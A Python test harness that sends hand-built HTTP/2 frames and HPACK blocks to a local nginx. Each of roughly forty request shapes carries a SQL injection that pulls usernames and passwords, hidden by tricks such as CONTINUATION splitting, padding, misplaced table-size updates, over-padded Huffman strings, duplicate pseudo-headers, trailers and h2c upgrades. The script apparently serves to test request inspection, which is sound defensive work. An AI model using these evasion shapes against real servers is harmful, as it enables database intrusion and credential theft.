#!/usr/bin/python3
"""h2_evasion.py HOST PORT H1PORT [CASE...]

A raw-frame HTTP/2 client sending one request shape per connection to a
server (nginx in h2_evasion.sh), each carrying an SQL injection; prints one
JSON line per request: {"case", "path", "status"} (status 0: no answer).
Cases named h1_* go to H1PORT (HTTP/1.1: h2c upgrade attempts).
Frames and HPACK are built by hand (RFC 9113, RFC 7541); Huffman-coded and
indexed blocks come from libnghttp2's own deflater through ctypes.
Bounded: each connection reads at most 2 s, 64 KiB per recv."""
import ctypes
import json
import re
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SQLI = b"1'%20UNION%20SELECT%20username,password%20FROM%20users--"
SQLI_RAW = b"1' UNION SELECT username, password FROM users--"
FORM_CT = b"application/x-www-form-urlencoded"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PUSH, PING, GOAWAY, WINUPD, CONT = range(10)
ES, EH, PADDED, PRIO = 0x1, 0x4, 0x8, 0x20


def frame(ftype, flags, sid, payload=b""):
    n = len(payload)
    return struct.pack(">BHBBI", n >> 16, n & 0xFFFF, ftype, flags, sid & 0x7FFFFFFF) + payload


def hint(v, prefix_bits, first):
    """HPACK integer (RFC 7541 5.1) with first's high bits above the prefix."""
    lim = (1 << prefix_bits) - 1
    if v < lim:
        return bytes([first | v])
    out = [first | lim]
    v -= lim
    while v >= 128:
        out.append(v & 0x7F | 0x80)
        v >>= 7
    out.append(v)
    return bytes(out)


def hstr(s):
    return hint(len(s), 7, 0) + s


def lit(name, value):      # literal without indexing, new name
    return b"\x00" + hstr(name) + hstr(value)


def lit_inc(name, value):  # literal with incremental indexing, new name
    return b"\x40" + hstr(name) + hstr(value)


def idx(i):                # indexed field
    return hint(i, 7, 0x80)


def size_update(n):
    return hint(n, 5, 0x20)


def get_block(path, extra=b""):
    return (lit(b":method", b"GET") + lit(b":scheme", b"http") +
            lit(b":path", path) + lit(b":authority", b"127.0.0.1") + extra)


def post_block(path, clen=None):
    b = (lit(b":method", b"POST") + lit(b":scheme", b"http") + lit(b":path", path) +
         lit(b":authority", b"127.0.0.1") + lit(b"content-type", FORM_CT))
    if clen is not None:
        b += lit(b"content-length", b"%d" % clen)
    return b


BODY = b"name=alice&q=" + SQLI_RAW.replace(b" ", b"+") + b"&x=1"


class NV(ctypes.Structure):
    _fields_ = [("name", ctypes.c_char_p), ("value", ctypes.c_char_p),
                ("namelen", ctypes.c_size_t), ("valuelen", ctypes.c_size_t),
                ("flags", ctypes.c_uint8)]


class Deflater:
    """libnghttp2's HPACK encoder: Huffman strings, dynamic table entries."""

    def __init__(self):
        self.lib = ctypes.CDLL("libnghttp2.so.14")
        self.d = ctypes.c_void_p()
        if self.lib.nghttp2_hd_deflate_new(ctypes.byref(self.d), 4096) != 0:
            raise SystemExit("nghttp2_hd_deflate_new failed")

    def block(self, hdrs):
        arr = (NV * len(hdrs))(*[NV(n, v, len(n), len(v), 0) for n, v in hdrs])
        buf = ctypes.create_string_buffer(8192)
        self.lib.nghttp2_hd_deflate_hd.restype = ctypes.c_ssize_t
        n = self.lib.nghttp2_hd_deflate_hd(self.d, buf, ctypes.c_size_t(8192), arr,
                                           ctypes.c_size_t(len(hdrs)))
        if n < 0:
            raise SystemExit("deflate failed %d" % n)
        return buf.raw[:n]


def statuses(data):
    """Each stream's :status from the server's HEADERS (nginx indexes
    200/204/206/304/400/404/500, else a literal with name index 8)."""
    out, i = {}, 0
    static = {8: 200, 9: 204, 10: 206, 11: 304, 12: 400, 13: 404, 14: 500}
    while i + 9 <= len(data):
        n = data[i] << 16 | data[i + 1] << 8 | data[i + 2]
        t, fl, sid = data[i + 3], data[i + 4], struct.unpack(">I", data[i + 5:i + 9])[0] & 0x7FFFFFFF
        p = data[i + 9:i + 9 + n]
        if t == HEADERS and sid not in out and p:
            if fl & PADDED:
                p = p[1:]
            if fl & PRIO:
                p = p[5:]
            if p and p[0] & 0x80:
                out[sid] = static.get(p[0] & 0x7F, -1)
            elif len(p) >= 5 and p[0] & 0x0F == 8:
                out[sid] = int(p[2:5])
        i += 9 + n
    return out


def exchange(host, port, chunks, pause=0.0):
    """Send chunks (a pause between them), read until quiet; the bytes read."""
    s = socket.create_connection((host, port), timeout=2)
    got = b""
    try:
        for k, c in enumerate(chunks):
            if k and pause:
                time.sleep(pause)
            s.sendall(c)
        end = time.monotonic() + 2
        s.settimeout(0.3)
        while time.monotonic() < end:
            try:
                b = s.recv(65536)
            except socket.timeout:
                break
            if not b:
                break
            got += b
    except OSError:
        pass
    s.close()
    return got


def start(settings=b""):
    return PREFACE + frame(SETTINGS, 0, 0, settings)


# ---- the shapes: each returns [(stream id, path judged)], chunks --------

def c_base(p):
    return [(1, p)], [start() + frame(HEADERS, ES | EH, 1, get_block(p + b"?id=" + SQLI))]


def c_huffman_indexed(p):
    d = Deflater()
    h = [(b":method", b"GET"), (b":scheme", b"http"), (b":path", p + b"?id=" + SQLI),
         (b":authority", b"127.0.0.1"), (b"user-agent", b"probe/1")]
    # the second block is all references into the dynamic table
    return [(1, p), (3, p)], [start() + frame(HEADERS, ES | EH, 1, d.block(h)) +
                              frame(HEADERS, ES | EH, 3, d.block(h))]


def c_dyn_ref(p):
    b1 = lit(b":method", b"GET") + lit(b":scheme", b"http") + \
        lit_inc(b":path", p + b"?id=" + SQLI) + lit(b":authority", b"127.0.0.1")
    b3 = idx(2) + idx(6) + idx(62) + lit(b":authority", b"127.0.0.1")
    return [(1, p), (3, p)], [start() + frame(HEADERS, ES | EH, 1, b1) + frame(HEADERS, ES | EH, 3, b3)]


def c_size_update_first(p):
    b = size_update(0) + size_update(4096) + get_block(p + b"?id=" + SQLI)
    return [(1, p)], [start() + frame(HEADERS, ES | EH, 1, b)]


def c_size_update_mid(p):
    # after the first field: RFC 7541 4.2 wants it at the block's start
    b = lit(b":method", b"GET") + size_update(4096) + lit(b":scheme", b"http") + \
        lit(b":path", p + b"?id=" + SQLI) + lit(b":authority", b"127.0.0.1")
    return [(1, p)], [start() + frame(HEADERS, ES | EH, 1, b)]


def c_size_update_end(p):
    b = get_block(p + b"?id=" + SQLI) + size_update(2048)
    return [(1, p)], [start() + frame(HEADERS, ES | EH, 1, b)]


def c_size_update_next(p):
    # a size update in the middle of stream 1's block; stream 3 carries it
    b1 = lit(b":method", b"GET") + size_update(1024) + lit(b":scheme", b"http") + \
        lit(b":path", b"/api/warm") + lit(b":authority", b"127.0.0.1")
    return [(3, p)], [start() + frame(HEADERS, ES | EH, 1, b1) +
                      frame(HEADERS, ES | EH, 3, get_block(p + b"?id=" + SQLI))]


def c_cont_split(p):
    b = get_block(p + b"?id=" + SQLI)
    cut = b.index(b"UNION") + 2  # inside the :path literal
    return [(1, p)], [start() + frame(HEADERS, ES, 1, b[:cut]) + frame(CONT, EH, 1, b[cut:])]


def c_cont_many(p):
    b = get_block(p + b"?id=" + SQLI)
    out = frame(HEADERS, ES, 1, b[:1])
    for k in range(1, len(b) - 1):
        out += frame(CONT, 0, 1, b[k:k + 1])
    return [(1, p)], [start() + out + frame(CONT, EH, 1, b[-1:])]


def c_cont_empty_headers(p):
    b = get_block(p + b"?id=" + SQLI)
    return [(1, p)], [start() + frame(HEADERS, ES, 1, b"") + frame(CONT, EH, 1, b)]


def c_padded_prio(p):
    b = get_block(p + b"?id=" + SQLI)
    pl = bytes([40]) + struct.pack(">IB", 0x80000000, 200) + b + b"\0" * 40
    return [(1, p)], [start() + frame(HEADERS, ES | EH | PADDED | PRIO, 1, pl)]


def c_padded_cont(p):
    b = get_block(p + b"?id=" + SQLI)
    return [(1, p)], [start() + frame(HEADERS, ES | PADDED, 1, bytes([10]) + b[:7] + b"\0" * 10) +
                      frame(CONT, EH, 1, b[7:])]


def c_priority_frames(p):
    pr = frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 15)) + frame(PRIORITY, 0, 7, struct.pack(">IB", 1, 3))
    return [(1, p)], [start() + pr + frame(HEADERS, ES | EH, 1, get_block(p + b"?id=" + SQLI))]


def c_no_settings(p):
    # the client's SETTINGS is required first (RFC 9113 3.4): none at all
    return [(1, p)], [PREFACE + frame(HEADERS, ES | EH, 1, get_block(p + b"?id=" + SQLI))]


def c_settings_late(p):
    return [(1, p)], [PREFACE + frame(HEADERS, ES | EH, 1, get_block(p + b"?id=" + SQLI)) +
                      frame(SETTINGS, 0, 0)]


def c_ack_first(p):
    return [(1, p)], [PREFACE + frame(SETTINGS, 1, 0) + frame(SETTINGS, 0, 0) +
                      frame(HEADERS, ES | EH, 1, get_block(p + b"?id=" + SQLI))]


def c_winupd_first(p):
    return [(1, p)], [PREFACE + frame(WINUPD, 0, 0, struct.pack(">I", 1000)) + frame(SETTINGS, 0, 0) +
                      frame(HEADERS, ES | EH, 1, get_block(p + b"?id=" + SQLI))]


def c_ping_first(p):
    return [(1, p)], [PREFACE + frame(PING, 0, 0, b"12345678") +
                      frame(HEADERS, ES | EH, 1, get_block(p + b"?id=" + SQLI))]


def c_unknown_first(p):
    return [(1, p)], [PREFACE + frame(0x20, 0, 0, b"xyz") + frame(SETTINGS, 0, 0) +
                      frame(HEADERS, ES | EH, 1, get_block(p + b"?id=" + SQLI))]


def c_unknown_mid(p):
    return [(1, p)], [start() + frame(0x20, 0xff, 1, b"xyz") +
                      frame(HEADERS, ES | EH, 1, get_block(p + b"?id=" + SQLI))]


def c_big_headers(p):
    # one HEADERS frame past 16384 bytes, before the server's SETTINGS:
    # nginx's http2_max_field_size (4k) and http2_max_header_size (16k)
    # bound the fields, padding makes up the rest
    pad = b"".join(lit(b"x-p%d" % k, b"a" * 4040) for k in range(4))
    b = get_block(p + b"?id=" + SQLI, pad)
    return [(1, p)], [start() + frame(HEADERS, ES | EH | PADDED, 1, bytes([255]) + b + b"\0" * 255)]


def c_big_data_late(p):
    # the same long DATA after the server's SETTINGS (nginx: 2^24-1)
    body = b"pad=" + b"a" * 17000 + b"&" + BODY
    return [(1, p)], [start(), frame(HEADERS, EH, 1, post_block(p, len(body))) +
                      frame(DATA, ES, 1, body)]


def c_big_data(p):
    body = b"pad=" + b"a" * 17000 + b"&" + BODY
    return [(1, p)], [start() + frame(HEADERS, EH, 1, post_block(p, len(body))) +
                      frame(DATA, ES, 1, body)]


def c_big_settings(p):
    st = struct.pack(">HI", 1, 0x7fffffff) + struct.pack(">HI", 5, 16777215) + \
        struct.pack(">HI", 4, 0x7fffffff)
    return [(1, p)], [start(st) + frame(HEADERS, ES | EH, 1, get_block(p + b"?id=" + SQLI))]


def c_data_padded(p):
    body = BODY
    return [(1, p)], [start() + frame(HEADERS, EH, 1, post_block(p, len(body))) +
                      frame(DATA, ES | PADDED, 1, bytes([30]) + body + b"\0" * 30)]


def c_data_1byte(p):
    out = start() + frame(HEADERS, EH, 1, post_block(p, len(BODY)))
    for k in range(len(BODY)):
        out += frame(DATA, ES if k == len(BODY) - 1 else 0, 1, BODY[k:k + 1])
    return [(1, p)], [out]


def c_data_interleaved(p):
    out = start() + frame(HEADERS, EH, 1, post_block(p))
    for k in range(len(BODY)):
        out += frame(PING, 0, 0, b"%08d" % k) if k % 4 == 0 else frame(WINUPD, 0, 0, struct.pack(">I", 1))
        out += frame(DATA, 0, 1, BODY[k:k + 1])
    return [(1, p)], [out + frame(DATA, ES, 1)]


def c_no_clen(p):
    return [(1, p)], [start() + frame(HEADERS, EH, 1, post_block(p)) + frame(DATA, ES, 1, BODY)]


def c_trailer(p):
    tr = lit(b"user-agent", b"x' UNION SELECT username, password FROM users--")
    return [(1, p)], [start() + frame(HEADERS, EH, 1, post_block(p)) + frame(DATA, 0, 1, b"a=1") +
                      frame(HEADERS, ES | EH, 1, tr)]


def c_clen_short(p):
    return [(1, p)], [start() + frame(HEADERS, EH, 1, post_block(p, 5)) + frame(DATA, ES, 1, BODY)]


def c_empty_data_end(p):
    return [(1, p)], [start() + frame(HEADERS, EH, 1, get_block(p + b"?id=" + SQLI)) + frame(DATA, ES, 1)]


def c_pseudo_after(p):
    b = lit(b"user-agent", b"probe") + get_block(p + b"?id=" + SQLI)
    return [(1, p)], [start() + frame(HEADERS, ES | EH, 1, b)]


def c_dup_path(p):
    b = get_block(p + b"?id=" + SQLI) + lit(b":path", p + b"?id=2")
    return [(1, p)], [start() + frame(HEADERS, ES | EH, 1, b)]


def c_upper_name(p):
    b = get_block(p, lit(b"User-Agent", SQLI_RAW))
    return [(1, p)], [start() + frame(HEADERS, ES | EH, 1, b)]


def c_ua_spaces(p):
    b = get_block(p, lit(b"user-agent", b"  \t" + SQLI_RAW + b" \t"))
    return [(1, p)], [start() + frame(HEADERS, ES | EH, 1, b)]


def c_authority(p):
    b = lit(b":method", b"GET") + lit(b":scheme", b"http") + lit(b":path", p) + \
        lit(b":authority", b"x" + SQLI)
    return [(1, p)], [start() + frame(HEADERS, ES | EH, 1, b)]


def c_host_only(p):
    b = lit(b":method", b"GET") + lit(b":scheme", b"http") + lit(b":path", p + b"?id=" + SQLI) + \
        lit(b"host", b"127.0.0.1")
    return [(1, p)], [start() + frame(HEADERS, ES | EH, 1, b)]


def c_absolute(p):
    return [(1, p)], [start() + frame(HEADERS, ES | EH, 1,
                                      get_block(b"http://127.0.0.1" + p + b"?id=" + SQLI))]


def c_double_slash(p):
    return [(1, p)], [start() + frame(HEADERS, ES | EH, 1, get_block(b"/" + p + b"?id=" + SQLI))]


def c_hash(p):
    return [(1, p)], [start() + frame(HEADERS, ES | EH, 1, get_block(p + b"#f?id=" + SQLI))]


def c_out_of_order(p):
    return [(5, p)], [start() + frame(HEADERS, ES | EH, 5, get_block(p + b"?id=" + SQLI)) +
                      frame(HEADERS, ES | EH, 3, get_block(b"/api/warm"))]


def c_stream_gap(p):
    return [(101, p)], [start() + frame(HEADERS, ES | EH, 101, get_block(p + b"?id=" + SQLI))]


def c_split_writes(p):
    b = start() + frame(HEADERS, ES | EH, 1, get_block(p + b"?id=" + SQLI))
    return [(1, p)], [b[k:k + 7] for k in range(0, len(b), 7)]


# "aaaaaaaa" Huffman-coded (8 x 00011 = 5 bytes) and a whole byte of
# ones after it: padding past 7 bits (RFC 7541 5.2), which nghttp2 refuses
# and nginx 1.22 reads
OVERPAD = b"\x00\x03x-h\x86\x18\xc6\x31\x8c\x63\xff"


def c_huff_pad_next(p):
    # the over-padded string on a benign stream 1; stream 3 carries it
    return [(3, p)], [start() + frame(HEADERS, ES | EH, 1, get_block(b"/api/warm", OVERPAD)) +
                      frame(HEADERS, ES | EH, 3, get_block(p + b"?id=" + SQLI))]


def c_huff_pad_same(p):
    # the over-padded string first in the request's own block (nginx takes
    # pseudo-headers after it)
    return [(1, p)], [start() + frame(HEADERS, ES | EH, 1, OVERPAD + get_block(p + b"?id=" + SQLI))]


H2C_UP = (b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
          b"HTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA\r\n")


def c_h1_h2c_upgrade(p):
    # HTTP/1.1 port: nginx 1.22 answers an h2c upgrade in HTTP/1.1 (no
    # 101); the upgrade request and the next one on the connection count
    r1 = b"GET " + p + b"?id=" + SQLI + b" HTTP/1.1\r\nHost: 127.0.0.1\r\n" + H2C_UP + b"\r\n"
    r2 = b"GET " + p + b"_next?id=" + SQLI + b" HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"
    return [(1, p), (2, p + b"_next")], [r1 + r2]


def c_h1_h2c_then_preface(p):
    # the upgrade request followed at once by the HTTP/2 preface and a
    # HEADERS, as if the 101 had come
    r1 = b"GET " + p + b"?id=" + SQLI + b" HTTP/1.1\r\nHost: 127.0.0.1\r\n" + H2C_UP + b"\r\n"
    return [(1, p), (3, p + b"_h2")], [r1 + start() +
                                       frame(HEADERS, ES | EH, 3, get_block(p + b"_h2?id=" + SQLI))]


def h1_statuses(data):
    """The n-th HTTP/1.1 answer's status as stream n."""
    return {k + 1: int(m.group(1)) for k, m in enumerate(re.finditer(rb"HTTP/1\.1 (\d{3}) ", data))}


CASES = {k[2:]: v for k, v in sorted(globals().items()) if k.startswith("c_")}
SLOW = {"split_writes": 0.02, "big_data_late": 0.3}  # pause between pieces


def main():
    host, port, h1port = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    names = sys.argv[4:] or list(CASES)
    for name in names:
        base = b"/api/" if not name.startswith(("big_data", "data_", "no_clen", "trailer", "clen_")) \
            else b"/body/"
        expect, chunks = CASES[name](base + name.encode())
        h1 = name.startswith("h1_")
        got = exchange(host, h1port if h1 else port, chunks, SLOW.get(name, 0.0))
        st = h1_statuses(got) if h1 else statuses(got)
        for sid, path in expect:
            print(json.dumps({"case": name, "path": path.decode(), "status": st.get(sid, 0)}),
                  flush=True)


if __name__ == "__main__":
    main()
